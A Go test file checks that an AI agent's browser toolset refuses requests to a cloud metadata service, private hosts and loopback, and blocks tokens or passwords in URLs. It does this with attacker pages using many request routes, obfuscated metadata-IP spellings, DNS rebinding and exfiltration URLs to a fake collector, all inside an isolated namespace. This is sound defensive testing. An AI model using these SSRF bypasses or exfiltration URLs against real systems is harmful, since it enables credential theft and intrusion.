//go:build linux

package browser_test

// The network policy attacked from the far side: pages anyone can write try
// every route a browser has to a cloud metadata service, private hosts and
// loopback, and tool arguments try the spellings and tricks that reached
// them before the egress proxy. The test runs in a network namespace of its
// own (a user namespace maps us to root there), where 169.254.169.254, a
// private host and the attacker's "public" site are addresses on the
// namespace's loopback device, and a DNS stub answers for the rebinding
// name: nothing can leave the machine, and a request that got through would
// be seen by the fake service it reached.

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"html"
	"log/slog"
	"math/big"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/hermes-go/hermes/internal/testkit/dnsstub"
	"github.com/hermes-go/hermes/toolsets/browser"
)

const (
	netnsEnv       = "HERMES_BROWSER_NETNS"
	attackerKeyEnv = "HERMES_BROWSER_NETNS_KEY"
	metadataIP     = "169.254.169.254"
	privateIP      = "10.20.30.40"
	attackerIP     = "44.44.44.44" // public to the policy; it exists only on the loopback device of the namespace the test makes
	loopbackPort   = "8081"
	rebindDomain   = ".rebind.hermes-test" // one name per policy below
	// plantedToken looks like a GitHub token to the redaction patterns.
	plantedToken = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
)

// TestEgressPolicy re-runs itself inside a fresh user and network
// namespace (and a mount namespace, for resolv.conf) and reports what the
// run inside found.
func TestEgressPolicy(t *testing.T) {
	if os.Getenv(netnsEnv) == "1" {
		attackFromInside(t)
		return
	}
	needChromium(t)
	dir := t.TempDir()
	resolv := filepath.Join(dir, "resolv.conf")
	if err := os.WriteFile(resolv, []byte("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	script := strings.Join([]string{
		"set -e",
		"ip link set lo up",
		"ip addr add " + metadataIP + "/32 dev lo",
		"ip addr add " + privateIP + "/32 dev lo",
		"ip addr add " + attackerIP + "/32 dev lo",
		"mount --bind " + resolv + " /etc/resolv.conf",
		`exec "$0" -test.run '^TestEgressPolicy$' -test.v`,
	}, "\n")
	cmd := exec.Command("unshare", "--user", "--map-root-user", "--net", "--mount", "sh", "-c", script, os.Args[0])
	// The attacker's HTTPS site has a certificate the run inside trusts
	// as the system's roots (Go's SSL_CERT_FILE): the egress proxy, which
	// verifies every host, connects to it as to a real site.
	certFile, keyFile := attackerCertificate(t, dir)
	cmd.Env = append(os.Environ(), netnsEnv+"=1", "SSL_CERT_FILE="+certFile, attackerKeyEnv+"="+keyFile)
	out, err := cmd.CombinedOutput()
	if err != nil && !bytes.Contains(out, []byte("=== RUN")) {
		// The namespace itself could not be made: say why.
		msg := fmt.Sprintf("cannot create a network namespace for the egress tests (unshare --user --net --mount): %v\n%s", err, out)
		if os.Getenv("CI") != "" {
			t.Fatal(msg)
		}
		t.Skip(msg)
	}
	t.Logf("inside the namespace:\n%s", out)
	if err != nil {
		t.Fatalf("the egress tests failed inside the namespace: %v", err)
	}
}

// hostile is the set of servers a page must never reach.
type hostile struct {
	mu    sync.Mutex
	hits  map[string]int // server -> requests it received
	creds []string       // requests anywhere that carried the planted token
}

func (h *hostile) serve(t *testing.T, name, addr, body string) {
	t.Helper()
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatalf("listen on %s: %v", addr, err)
	}
	srv := &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h.mu.Lock()
		h.hits[name]++
		h.mu.Unlock()
		fmt.Fprint(w, body)
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
}

func (h *hostile) reached() map[string]int {
	h.mu.Lock()
	defer h.mu.Unlock()
	out := map[string]int{}
	for k, v := range h.hits {
		out[k] = v
	}
	return out
}

// logRecorder collects the browser's log lines.
type logRecorder struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (l *logRecorder) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.buf.Write(p)
}

// mark is where the log stands now.
func (l *logRecorder) mark() int {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.buf.Len()
}

// refused reports whether a refusal of host was logged after mark.
func (l *logRecorder) refused(host string, mark int) bool {
	l.mu.Lock()
	defer l.mu.Unlock()
	for _, line := range strings.Split(l.buf.String()[mark:], "\n") {
		if strings.Contains(line, "network policy refused") && strings.Contains(line, host) {
			return true
		}
	}
	return false
}

func attackFromInside(t *testing.T) {
	needChromium(t)
	h := &hostile{hits: map[string]int{}}
	h.serve(t, "metadata", metadataIP+":80", "METADATA-SECRET")
	h.serve(t, "private", privateIP+":80", "PRIVATE-SECRET")
	h.serve(t, "loopback", "127.0.0.1:"+loopbackPort, "LOOPBACK-SECRET")
	// For each name, the first answer (the tool's own check) is the
	// attacker's public site, every later one the metadata service.
	rebind := []netip.Addr{netip.MustParseAddr(attackerIP), netip.MustParseAddr(metadataIP)}
	stub, err := dnsstub.Start("127.0.0.1:53", map[string][]netip.Addr{"p0" + rebindDomain: rebind, "p1" + rebindDomain: rebind})
	if err != nil {
		t.Fatalf("DNS stub: %v", err)
	}
	t.Cleanup(func() { stub.Close() })
	site, secureSite := attackerSite(t, h)

	metadata := "http://" + metadataIP + "/latest/meta-data/iam/"
	private := "http://" + privateIP + "/admin"
	loopback := "http://127.0.0.1:" + loopbackPort + "/"
	for i, pol := range []struct {
		name         string
		config       string
		forbidden    []string // targets the pages try
		mustNotReach []string
	}{
		// The default: the local browser may open private and loopback
		// pages, never the metadata service.
		{"default policy", "", []string{metadata}, []string{"metadata"}},
		{"private disallowed", "browser:\n  allow_private_urls: false\n", []string{metadata, private, loopback}, []string{"metadata", "private", "loopback"}},
	} {
		t.Run(pol.name, func(t *testing.T) {
			home := t.TempDir()
			if err := os.WriteFile(filepath.Join(home, "config.yaml"), []byte(pol.config), 0o600); err != nil {
				t.Fatal(err)
			}
			logs := &logRecorder{}
			d := newDriver(t, browser.Options{
				Home: home, Logger: slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelInfo})),
				// Service workers need a secure origin; the attacker's plain
				// HTTP site stands in for one.
				ExtraFlags: map[string]any{"unsafely-treat-insecure-origin-as-secure": "http://" + attackerIP},
			})
			for _, target := range pol.forbidden {
				for _, route := range pageRoutes {
					t.Run(route+"→"+target, func(t *testing.T) {
						mark := logs.mark()
						page := site + "/attack/" + route + "?to=" + urlQuery(target)
						res, _ := d.call("browser_navigate", map[string]any{"url": page})
						if route == "link" || route == "popup-link" || route == "window-open" {
							ref := refOf(t, res, "go there")
							res, _ = d.call("browser_click", map[string]any{"ref": ref})
						}
						waitRefused(t, logs, mark, hostOf(target))
						snap, _ := d.call("browser_snapshot", map[string]any{"full": true})
						noSecret(t, res, snap)
						settle(t, d, route, site)
					})
				}
				t.Run("console→"+target, func(t *testing.T) {
					d.call("browser_navigate", map[string]any{"url": site + "/plain"})
					mark := logs.mark()
					res, _ := d.call("browser_console", map[string]any{"expression": "location.href = " + jsString(target) + "; 'sent'"})
					waitRefused(t, logs, mark, hostOf(target))
					snap, _ := d.call("browser_snapshot", map[string]any{})
					noSecret(t, res, snap)
				})
				t.Run("tool URL "+target, func(t *testing.T) {
					res, isErr := d.call("browser_navigate", map[string]any{"url": target})
					if !isErr || !strings.Contains(fmt.Sprint(res["error"]), "Blocked") {
						t.Errorf("navigate to %s = %v, want a refusal naming the reason", target, res)
					}
					noSecret(t, res)
				})
			}
			// The metadata service, spelled as browsers and Go accept it.
			for _, spelling := range []string{"2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "169.254.43518", "0xa9.0xfe.0xa9.0xfe", "[::ffff:169.254.169.254]"} {
				target := "http://" + spelling + "/latest/"
				t.Run("spelling "+spelling, func(t *testing.T) {
					res, isErr := d.call("browser_navigate", map[string]any{"url": target})
					if !isErr {
						t.Errorf("navigate to %s = %v, want refused", target, res)
					}
					mark := logs.mark()
					page := site + "/attack/fetch?to=" + urlQuery(target)
					r2, _ := d.call("browser_navigate", map[string]any{"url": page})
					waitRefused(t, logs, mark, metadataIP)
					snap, _ := d.call("browser_snapshot", map[string]any{"full": true})
					noSecret(t, res, r2, snap)
				})
			}
			t.Run("DNS rebinding", func(t *testing.T) {
				name := fmt.Sprintf("p%d%s", i, rebindDomain)
				res, _ := d.call("browser_navigate", map[string]any{"url": "http://" + name + "/"})
				if n := stub.Queries(name); n < 2 {
					t.Fatalf("the name was resolved %d times; the test needs the check and the dial to resolve it", n)
				}
				if !strings.Contains(fmt.Sprint(res["error"]), "metadata") {
					t.Errorf("navigate to the rebinding name = %v, want it refused as metadata", res)
				}
				noSecret(t, res)
			})
			// Credentials are refused the same under every address
			// policy: the default one covers them.
			credentials := i == 0
			t.Run("credentials in request URLs", func(t *testing.T) {
				if !credentials {
					return
				}
				for _, target := range credentialTargets(site, secureSite) {
					res, isErr := d.call("browser_navigate", map[string]any{"url": target})
					if !isErr || strings.Contains(fmt.Sprint(res), plantedToken) || strings.Contains(fmt.Sprint(res), "hunter2") {
						t.Errorf("navigate with a credential = %v, want refused without echoing it", res)
					}
					for _, route := range pageRoutes {
						t.Run(route+"→"+safeName(target), func(t *testing.T) {
							mark, before := logs.mark(), h.reached()["collector"]
							// The target in hex, as an attacker hides it: the
							// page's own URL must pass the check.
							res, _ := d.call("browser_navigate", map[string]any{"url": site + "/attack/" + route + "?hex=" + hex.EncodeToString([]byte(target))})
							if route == "link" || route == "popup-link" || route == "window-open" {
								res, _ = d.call("browser_click", map[string]any{"ref": refOf(t, res, "go there")})
							}
							if strings.Contains(target, "@") {
								// The browser itself declines to send some
								// of these (fetch() throws, subresources
								// with credentials are blocked); those
								// that reach the collector were sent with
								// no credential, and its password
								// challenge was refused.
								if !refusedWithin(logs, mark, attackerIP, 1500*time.Millisecond) && h.reached()["collector"] != before {
									t.Errorf("the collector was reached and no refusal was logged")
								}
							} else {
								waitRefused(t, logs, mark, attackerIP)
							}
							noSecret(t, res)
							settle(t, d, route, site)
						})
					}
				}
				time.Sleep(300 * time.Millisecond)
				h.mu.Lock()
				defer h.mu.Unlock()
				if len(h.creds) > 0 {
					t.Errorf("requests carrying a credential reached the attacker: %q", h.creds)
				}
			})
			for _, name := range pol.mustNotReach {
				if n := h.reached()[name]; n > 0 {
					t.Errorf("the %s server was reached %d times", name, n)
				}
			}
		})
	}
}

// pageRoutes are the ways a page makes the browser request a URL.
var pageRoutes = []string{"js-navigation", "link", "popup-link", "fetch", "xhr", "img", "iframe", "meta-refresh",
	"form", "window-open", "websocket", "eventsource", "prefetch", "beacon", "redirect", "worker-fetch", "service-worker"}

// attackerSite serves the attack pages on the attacker's address, over
// HTTP and HTTPS.
func attackerSite(t *testing.T, h *hostile) (plain, secure string) {
	t.Helper()
	mux := http.NewServeMux()
	mux.HandleFunc("/plain", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `<!doctype html><title>Plain</title><p>A plain page.</p>`)
	})
	mux.HandleFunc("/collect/", collect(h))
	mux.HandleFunc("/collect", collect(h))
	mux.HandleFunc("/go", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
	})
	mux.HandleFunc("/worker.js", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprint(w, `onmessage = e => fetch(e.data).then(r => r.text()).then(t => postMessage(t), () => postMessage("failed"))`)
	})
	mux.HandleFunc("/sw.js", func(w http.ResponseWriter, r *http.Request) {
		// A service worker runs apart from the page, in a target of its
		// own that no tab watches.
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprint(w, `self.addEventListener("install", e => e.waitUntil(fetch(new URL(location).searchParams.get("to")).catch(() => null)))`)
	})
	mux.HandleFunc("/attack/{route}", func(w http.ResponseWriter, r *http.Request) {
		to := r.URL.Query().Get("to")
		if h := r.URL.Query().Get("hex"); h != "" {
			b, _ := hex.DecodeString(h)
			to = string(b)
		}
		js, attr := jsString(to), html.EscapeString(to)
		ws := jsString("ws" + strings.TrimPrefix(to, "http"))
		var body string
		switch r.PathValue("route") {
		case "js-navigation":
			body = `<p>Loading…</p><script>setTimeout(() => { location.href = ` + js + ` }, 30)</script>`
		case "link":
			body = `<a href="` + attr + `">go there</a>`
		case "popup-link":
			body = `<a href="` + attr + `" target="_blank">go there</a>`
		case "fetch":
			body = `<p id=o>waiting</p><script>fetch(` + js + `).then(r => r.text()).then(t => o.textContent = "GOT " + t, e => o.textContent = "failed")</script>`
		case "xhr":
			body = `<p id=o>waiting</p><script>const x = new XMLHttpRequest(); x.onload = () => o.textContent = "GOT " + x.responseText; x.onerror = () => o.textContent = "failed"; x.open("GET", ` + js + `); x.send()</script>`
		case "img":
			body = `<img src="` + attr + `" alt="probe">`
		case "iframe":
			body = `<iframe src="` + attr + `"></iframe>`
		case "meta-refresh":
			body = `<meta http-equiv="refresh" content="0;url=` + attr + `"><p>Redirecting</p>`
		case "form":
			body = `<form method="post" action="` + attr + `"><input name="a" value="b"></form><script>document.forms[0].submit()</script>`
		case "window-open":
			// A click, as Chromium blocks popups without a user gesture.
			body = `<button onclick='window.open(` + html.EscapeString(js) + `)'>go there</button>`
		case "websocket":
			body = `<p id=o>waiting</p><script>const s = new WebSocket(` + ws + `); s.onmessage = e => o.textContent = "GOT " + e.data; s.onerror = () => o.textContent = "failed"</script>`
		case "eventsource":
			body = `<p id=o>waiting</p><script>const s = new EventSource(` + js + `); s.onmessage = e => o.textContent = "GOT " + e.data; s.onerror = () => o.textContent = "failed"</script>`
		case "prefetch":
			body = `<link rel="prefetch" href="` + attr + `"><link rel="preconnect" href="` + attr + `"><p>Prefetching</p>`
		case "beacon":
			body = `<script>navigator.sendBeacon(` + js + `, "x")</script><p>Beacon</p>`
		case "redirect":
			body = `<script>location.href = "/go?to=" + encodeURIComponent(` + js + `)</script>`
		case "service-worker":
			body = `<p id=o>waiting</p><script>navigator.serviceWorker.register("/sw.js?to=" + encodeURIComponent(` + js + `)).then(() => o.textContent = "registered", e => o.textContent = "failed " + e)</script>`
		case "worker-fetch":
			body = `<p id=o>waiting</p><script>const w = new Worker("/worker.js"); w.onmessage = e => o.textContent = "GOT " + e.data; w.postMessage(` + js + `)</script>`
		default:
			http.NotFound(w, r)
			return
		}
		fmt.Fprint(w, `<!doctype html><title>Attack</title>`+body)
	})
	ln, err := net.Listen("tcp", attackerIP+":80")
	if err != nil {
		t.Fatalf("listen on the attacker's address: %v", err)
	}
	srv := &http.Server{Handler: mux, ReadHeaderTimeout: 5 * time.Second}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	tln, err := net.Listen("tcp", attackerIP+":443")
	if err != nil {
		t.Fatalf("listen on the attacker's HTTPS address: %v", err)
	}
	cert, err := tls.LoadX509KeyPair(os.Getenv("SSL_CERT_FILE"), os.Getenv(attackerKeyEnv))
	if err != nil {
		t.Fatalf("the attacker's certificate: %v", err)
	}
	tsrv := &http.Server{Handler: mux, ReadHeaderTimeout: 5 * time.Second}
	go tsrv.Serve(tls.NewListener(tln, &tls.Config{Certificates: []tls.Certificate{cert}}))
	t.Cleanup(func() { tsrv.Close() })
	return "http://" + attackerIP, "https://" + attackerIP
}

// collect is the attacker's credential collector: it records every request
// that reaches it with the planted token or a password.
func collect(h *hostile) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		h.mu.Lock()
		h.hits["collector"]++
		h.mu.Unlock()
		if strings.Contains(r.URL.String(), plantedToken) || r.URL.User != nil || strings.Contains(r.Header.Get("Authorization"), "Basic") {
			h.mu.Lock()
			h.creds = append(h.creds, r.URL.String()+" "+r.Header.Get("Authorization"))
			h.mu.Unlock()
		}
		if r.Header.Get("Authorization") == "" {
			// A browser sends user:password@ only when challenged.
			w.Header().Set("WWW-Authenticate", `Basic realm="collect"`)
			http.Error(w, "who are you", http.StatusUnauthorized)
			return
		}
		fmt.Fprint(w, "collected")
	}
}

// attackerCertificate writes a certificate for the attacker's address and
// its key into dir.
func attackerCertificate(t *testing.T, dir string) (certFile, keyFile string) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1),
		Subject:      pkix.Name{CommonName: attackerIP},
		NotBefore:    time.Now().Add(-time.Hour),
		NotAfter:     time.Now().Add(24 * time.Hour),
		KeyUsage:     x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign,
		ExtKeyUsage:  []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
		IsCA:         true, BasicConstraintsValid: true,
		IPAddresses: []net.IP{net.ParseIP(attackerIP)},
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	keyDER, err := x509.MarshalPKCS8PrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	certFile, keyFile = filepath.Join(dir, "attacker.pem"), filepath.Join(dir, "attacker.key")
	for file, block := range map[string]*pem.Block{certFile: {Type: "CERTIFICATE", Bytes: der}, keyFile: {Type: "PRIVATE KEY", Bytes: keyDER}} {
		if err := os.WriteFile(file, pem.EncodeToMemory(block), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return certFile, keyFile
}

// credentialTargets are the collector's URLs with a credential in them,
// over HTTP and HTTPS (which the proxy reads inside TLS).
func credentialTargets(site, secureSite string) []string {
	var out []string
	for _, base := range []string{site, secureSite} {
		scheme, host, _ := strings.Cut(base, "://")
		out = append(out,
			// A malformed escape elsewhere must not switch the check off.
			base+"/collect?k="+percentEncode(plantedToken)+"&bad=%zz",
			base+"/collect/"+plantedToken,
			scheme+"://user:hunter2@"+host+"/collect",
		)
	}
	return out
}

// safeName is a subtest name for a URL that carries a credential.
func safeName(target string) string {
	name := strings.ReplaceAll(target, plantedToken, "TOKEN")
	return strings.ReplaceAll(name, percentEncode(plantedToken), "ENCTOKEN")
}

// refusedWithin reports whether a refusal of host is logged within d.
func refusedWithin(logs *logRecorder, mark int, host string, d time.Duration) bool {
	deadline := time.Now().Add(d)
	for !logs.refused(host, mark) {
		if time.Now().After(deadline) {
			return false
		}
		time.Sleep(20 * time.Millisecond)
	}
	return true
}

// waitRefused waits until the browser logged a refusal of host: the page's
// request was made and stopped. A request that got through instead shows
// as a hit on the hostile server.
func waitRefused(t *testing.T, logs *logRecorder, mark int, host string) {
	t.Helper()
	if !refusedWithin(logs, mark, host, 15*time.Second) {
		t.Errorf("no refusal of %s was logged", host)
	}
}

// noSecret fails when any result carries what a hostile server answers.
func noSecret(t *testing.T, results ...map[string]any) {
	t.Helper()
	for _, r := range results {
		b, _ := json.Marshal(r)
		for _, s := range []string{"METADATA-SECRET", "PRIVATE-SECRET", "LOOPBACK-SECRET", plantedToken} {
			if bytes.Contains(b, []byte(s)) {
				t.Errorf("a result carries %s: %s", s, b)
			}
		}
	}
}

// selfNavigating are the routes whose page navigates on its own, after a
// timer or a load: on a loaded machine that navigation can still be on its
// way when the next subtest navigates, and land on top of it.
var selfNavigating = map[string]bool{"js-navigation": true, "meta-refresh": true, "form": true, "redirect": true}

// settle leaves the tab on a plain page once the attack page can no longer
// navigate by itself, so the next subtest starts from a quiet tab.
func settle(t *testing.T, d *driver, route, site string) {
	t.Helper()
	if !selfNavigating[route] {
		return
	}
	var res map[string]any
	for range 3 {
		var isErr bool
		res, isErr = d.call("browser_navigate", map[string]any{"url": site + "/plain"})
		if !isErr && strings.HasSuffix(fmt.Sprint(res["url"]), "/plain") {
			return
		}
	}
	t.Fatalf("the tab did not settle on the plain page after the %s page: %v", route, res)
}

func refOf(t *testing.T, res map[string]any, label string) string {
	t.Helper()
	snap, _ := res["snapshot"].(string)
	for _, line := range strings.Split(snap, "\n") {
		if strings.Contains(line, label) {
			if i := strings.Index(line, "[ref="); i >= 0 {
				return "@" + strings.TrimSuffix(strings.SplitN(line[i+5:], "]", 2)[0], "]")
			}
		}
	}
	t.Fatalf("no ref for %q in the result %v", label, res)
	return ""
}

func hostOf(raw string) string {
	rest := raw[strings.Index(raw, "://")+3:]
	if i := strings.IndexAny(rest, "/?"); i >= 0 {
		rest = rest[:i]
	}
	if h, _, err := net.SplitHostPort(rest); err == nil {
		return h
	}
	return rest
}

func jsString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

func urlQuery(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if 'a' <= c && c <= 'z' || 'A' <= c && c <= 'Z' || '0' <= c && c <= '9' || c == '-' || c == '.' || c == '_' {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "%%%02X", c)
		}
	}
	return b.String()
}

// percentEncode escapes every byte, as an attacker hiding a token would.
func percentEncode(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		fmt.Fprintf(&b, "%%%02X", s[i])
	}
	return b.String()
}
